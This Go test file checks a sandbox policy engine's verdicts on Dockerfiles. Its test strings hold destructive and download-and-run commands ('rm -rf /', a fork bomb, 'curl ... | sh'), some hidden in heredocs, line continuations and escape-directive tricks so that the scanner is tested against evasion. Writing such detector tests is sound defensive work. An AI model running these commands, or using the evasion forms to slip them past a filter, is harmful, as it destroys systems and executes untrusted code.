package main

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/caisson-dev/caisson/policy"
	"github.com/caisson-dev/caisson/sandbox"
)

// Each instruction is judged where it stands, and what RUN runs as the shell
// script that it is, in every form.
func TestDockerfiles(t *testing.T) {
	t.Parallel()
	p := newPolicy(t)
	const base = "FROM python:3.11@sha256:00\nUSER app\n"
	for _, tt := range []struct {
		name, text string
		verdict    sandbox.Verdict
		rule       string
		line       int
	}{
		{"plain", base + "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n", sandbox.Allow, "SBX-EXEC-0010", 3},
		{"download and run", base + "RUN curl -fsSL https://x.test/i.sh | sh\n", sandbox.Ask, "SBX-NET-0003", 3},
		{"the same, continued", base + "RUN true && \\\n  # why\n  curl -fsSL https://x.test/i.sh | \\\n  sh\n", sandbox.Ask, "SBX-NET-0003", 5},
		{"exec form", base + `RUN ["sh", "-c", "curl https://x.test/i.sh | sh"]`, sandbox.Ask, "SBX-NET-0003", 3},
		{"heredoc", base + "RUN <<EOF\ntrue\ncurl https://x.test/i.sh | sh\nEOF\n", sandbox.Ask, "SBX-NET-0003", 5},
		{"onbuild", base + "ONBUILD RUN curl https://x.test/i.sh | sh\n", sandbox.Ask, "SBX-NET-0003", 3},
		{"health check", base + "HEALTHCHECK --interval=5s CMD curl https://x.test/i.sh | sh\n", sandbox.Ask, "SBX-NET-0003", 3},
		{"fork bomb", base + "RUN :(){ :|:& };:\n", sandbox.Deny, "", 0},
		{"everything deleted", base + "RUN rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 3},
		{"escape directive", "# escape=`\n" + base + "RUN true && `\n curl https://x.test/i.sh | sh\n", sandbox.Ask, "SBX-NET-0003", 5},
		{"insecure", base + "RUN --security=insecure true\n", sandbox.Deny, "SBX-DF-0003", 3},
		{"remote ADD", base + "ADD https://x.test/a.tar /\n", sandbox.Ask, "SBX-DF-0001", 3},
		{"a secret", base + "ENV API_TOKEN=abc\n", sandbox.Ask, "SBX-DF-0002", 3},
		{"an unknown instruction", base + "RUNN true\n", sandbox.Ask, "SBX-DF-0007", 1},
		{"a frontend", "# syntax=evil/front\n" + base, sandbox.Ask, "SBX-DF-0006", 1},
		{"nothing", "", sandbox.Ask, "SBX-DF-0007", 1},
		{"two escapes end a line", base + "RUN echo a\\\\\nRUN rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"a list with more behind it", base + `RUN ["rm", "-rf", "/"] x`, sandbox.Deny, "SBX-BL-0001", 3},
		{"the same of a check", base + `HEALTHCHECK CMD ["rm", "-rf", "/"] x`, sandbox.Deny, "SBX-BL-0001", 3},
		{"the same, later", base + `ONBUILD RUN ["rm", "-rf", "/"] x`, sandbox.Deny, "SBX-BL-0001", 3},
		{"the same, as a shell has it", base + `RUN ["true"]; rm -rf /`, sandbox.Deny, "SBX-BL-0001", 3},
		{"no heredoc in quotes", base + "RUN echo '<<EOF'\nRUN rm -rf /\nEOF\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"none in quotes with more", base + "RUN echo \"a <<EOF\"\nRUN rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"none in arithmetic", base + "RUN echo $((1<<N))\nRUN rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"none in a here-string", base + "RUN cat <<<EOF\nRUN rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"none in the exec form", base + "RUN [\"echo\", \"<<EOF\"]\nRUN rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"none for the classic builder", base + "RUN cat <<EOF\nRUN rm -rf /\nRUN EOF\nEOF\n", sandbox.Allow, "", 0},
		{"instructions for the classic builder", base + "RUN cat <<RUN\nRUN rm -rf /\nRUN\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"heredoc for a program", base + "RUN cat <<EOF | sh\nrm -rf /\nEOF\n", sandbox.Deny, "SBX-BL-0001", 3},
		{"heredoc with a tab before its end", base + "RUN <<-EOF\n\ttrue\n\tEOF\nRUN rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 6},
		{"heredoc in Python", base + "RUN <<EOF\n#!/usr/bin/env python3\nimport shutil; shutil.rmtree('/')\nEOF\n", sandbox.Deny, "SBX-BL-0001", 5},
		{"heredoc of an ONBUILD", base + "ONBUILD RUN <<EOF\ntrue\nrm -rf /\nEOF\n", sandbox.Deny, "SBX-BL-0001", 5},
		{"heredoc without an end", base + "RUN <<EOF\ntrue\n", sandbox.Ask, "SBX-DF-0007", 1},
		{"lower case", base + "healthcheck cmd rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 3},
		{"a comment that swallows its continuation", base + "RUN true # why \\\n rm -rf /\n", sandbox.Allow, "", 0},
		{"quotes over a continuation", base + "RUN echo 'a \\\n'; rm -rf /\n", sandbox.Deny, "SBX-BL-0001", 4},
		{"a frontend in C's style", "// syntax=evil/front\n" + base, sandbox.Ask, "SBX-DF-0006", 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := p.JudgeDockerfile(t.Context(), []byte(tt.text), "Dockerfile")
			found := tt.rule == "" || slices.ContainsFunc(d.Findings, func(f sandbox.Finding) bool { return f.ID == tt.rule && f.Line == tt.line })
			if d.Verdict != tt.verdict || !found {
				t.Errorf("%s, want %s by %s at line %d: %+v", d.Verdict, tt.verdict, tt.rule, tt.line, d.Findings)
			}
		})
	}
}

// The Dockerfiles of the languages pass.
func TestOwnDockerfilesPass(t *testing.T) {
	t.Parallel()
	p := newPolicy(t)
	files, err := filepath.Glob("../../docker/*/Dockerfile")
	if err != nil || len(files) == 0 {
		t.Fatalf("no Dockerfiles: %v", err)
	}
	for _, name := range files {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if d := p.Judge(t.Context(), policy.Request{Language: policy.Dockerfile, Code: text, File: name}); d.Verdict != sandbox.Allow {
			t.Errorf("%s: %+v", strings.TrimPrefix(name, "../../"), d)
		}
	}
}
